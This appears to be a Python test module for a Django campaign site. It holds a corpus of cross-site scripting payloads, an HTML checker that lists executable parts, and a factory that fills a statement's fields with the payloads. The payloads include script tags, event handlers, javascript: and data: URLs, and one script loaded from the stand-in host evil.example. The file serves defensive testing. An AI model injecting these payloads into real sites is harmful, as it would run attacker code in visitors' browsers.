"""A corpus of cross-site scripting payloads, and a check that HTML holds
nothing a browser would run.

The check parses the HTML with Python's html.parser (attribute values come
back with their character references decoded, as a browser reads them) and
lists every executable part: a script that is not one of the site's own
files, an event-handler attribute, a javascript:, vbscript: or data: URL in
any attribute a browser follows, an element that embeds or redirects, CSS
that can fetch or run code, and an iframe that may run scripts (a sandboxed
one's srcdoc is checked the same way).
"""

import re
from html.parser import HTMLParser

from actions.tests.factories import make_petition, make_target
from statements.models import Statement
from statements.tests.factories import make_quote, make_statement, make_topic

PAYLOADS = [
    # Script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '<script nonce="">alert(1)</script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    # Event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<div onmouseover=alert(1)>hover</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    # Breaking out of an attribute, a text element or a comment
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # javascript:, vbscript: and data: URLs, bare (for a field written into
    # a link) and in markup
    "javascript:alert(1)",
    " JavaScript:alert(document.domain)//",
    "data:text/html,<script>alert(1)</script>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">',
    '<a href=" &#14; javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # Style
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    # Entity- and percent-encoded markup, which must stay text
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<template><script>alert(1)</script></template>",
    # Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    '[click]( javascript:alert(1) "title")',
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '[click](https://example.org" onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "<javascript:alert(1)>",
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    # Template syntax, which must be shown, never run
    "{{ csp_nonce }}{% csrf_token %}{{ request }}",
]

# Attributes whose value a browser loads or navigates to.
URL_ATTRIBUTES = {
    "action",
    "background",
    "cite",
    "codebase",
    "data",
    "formaction",
    "href",
    "longdesc",
    "manifest",
    "ping",
    "poster",
    "src",
    "srcset",
    "xlink:href",
}
# SVG animation can set an href to one of these values.
ANIMATION_VALUES = {"values", "to", "from", "by"}
# Elements that embed, redirect or run code; and elements the site never uses
# whose content a browser parses differently from html.parser (its text may
# close them early and start markup): none may appear.
FORBIDDEN_ELEMENTS = {
    "applet",
    "base",
    "embed",
    "frame",
    "frameset",
    "isindex",
    "math",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "plaintext",
    "portal",
    "xmp",
}
# A <link> with one of these loads what it names (canonical ones name a page).
LOADING_RELS = {"stylesheet", "import", "preload", "modulepreload", "prefetch"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
DANGEROUS_CSS = ("url(", "expression(", "@import", "javascript:", "behavior:")
BLANKS = re.compile(r"[\x00-\x20\x7f]")


def _url(value: str) -> str:
    # Browsers drop tabs, line breaks and leading control characters from
    # URLs before reading the scheme.
    return BLANKS.sub("", value).lower()


def _same_site(value: str) -> bool:
    url = _url(value)
    return url.startswith("/") and not url.startswith(("//", "/\\"))


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.texts: list[str] = []
        self._raw: str | None = None  # the element whose text is being read

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_startendtag(tag, attrs)
        if tag in {"script", "style"}:
            json = ("type", "application/json") in attrs
            self._raw = "json" if json else tag

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        self.texts.extend(values.values())
        where = self.get_starttag_text() or tag
        for name, value in values.items():
            self._check_attribute(name, value, where)
        self._check_element(tag, values, where)

    def handle_endtag(self, tag: str) -> None:
        if tag in {"script", "style"}:
            self._raw = None

    def handle_data(self, data: str) -> None:
        if self._raw == "script" and data.strip():
            self.problems.append(f"inline script: {data[:80]!r}")
        elif self._raw == "json" and "<" in data:  # json_script escapes it
            self.problems.append(f"markup in a JSON script: {data[:80]!r}")
        elif self._raw == "style" and (_bad_css(data) or "<" in data):
            self.problems.append(f"style element: {data[:80]!r}")
        else:
            self.texts.append(data)

    def _check_attribute(self, name: str, value: str, where: str) -> None:
        if name.startswith("on"):
            self.problems.append(f"event handler {name}: {where}")
        elif name in URL_ATTRIBUTES and _url(value).startswith(DANGEROUS_SCHEMES):
            self.problems.append(f"{name} URL: {where}")
        elif name in ANIMATION_VALUES and "javascript:" in _url(value):
            self.problems.append(f"animated {name}: {where}")
        elif name == "style" and _bad_css(value):
            self.problems.append(f"style attribute: {where}")

    def _check_element(self, tag: str, values: dict[str, str], where: str) -> None:
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"element: {where}")
        elif tag == "script" and not _same_site(values.get("src", "")):
            if values.get("type") != "application/json":
                self.problems.append(f"script: {where}")
        elif tag == "link" and not _same_site(values.get("href", "")):
            rels = set(values.get("rel", "").lower().split())
            if rels & LOADING_RELS:
                self.problems.append(f"link: {where}")
        elif tag == "meta" and "http-equiv" in values:
            self.problems.append(f"meta http-equiv: {where}")
        elif tag in {"iframe", "frame"}:
            self._check_frame(values, where)

    def _check_frame(self, values: dict[str, str], where: str) -> None:
        sandbox = values.get("sandbox")
        if sandbox is None or "allow-scripts" in sandbox.split():
            self.problems.append(f"frame that may run scripts: {where}")
        if "srcdoc" in values:
            self.problems.extend(f"in srcdoc: {p}" for p in problems(values["srcdoc"]))


def _bad_css(css: str) -> bool:
    folded = BLANKS.sub("", css).lower().replace("\\", "")
    return any(part in folded for part in DANGEROUS_CSS)


def _parsed(html: str) -> _Checker:
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker


def problems(html: str) -> list[str]:
    """Every part of this HTML a browser would run; empty when it is inert."""
    return _parsed(html).problems


def shown_text(html: str) -> str:
    """The page's text and attribute values, as a browser reads them: where
    a payload shown as text must appear, whole."""
    return "\n".join(_parsed(html).texts)


def make_corpus_statement() -> Statement:
    """A published statement with the corpus in every field a campaigner
    writes: title, standfirst, Markdown body and background, quotes, topics,
    and its petition's title, demand and target."""
    corpus = "\n\n".join(PAYLOADS)
    statement = make_statement(
        title=PAYLOADS[0], standfirst=PAYLOADS[17], body=corpus, background=corpus
    )
    for n, payload in enumerate(PAYLOADS[:5]):
        make_quote(statement, speaker=payload, role=payload, text=payload)
        statement.topics.add(make_topic(name=payload, slug=f"corpus-{n}"))
    make_petition(
        statement,
        title=PAYLOADS[1],
        demand=corpus,
        target=make_target(name=PAYLOADS[2], description=PAYLOADS[6]),
    )
    return statement
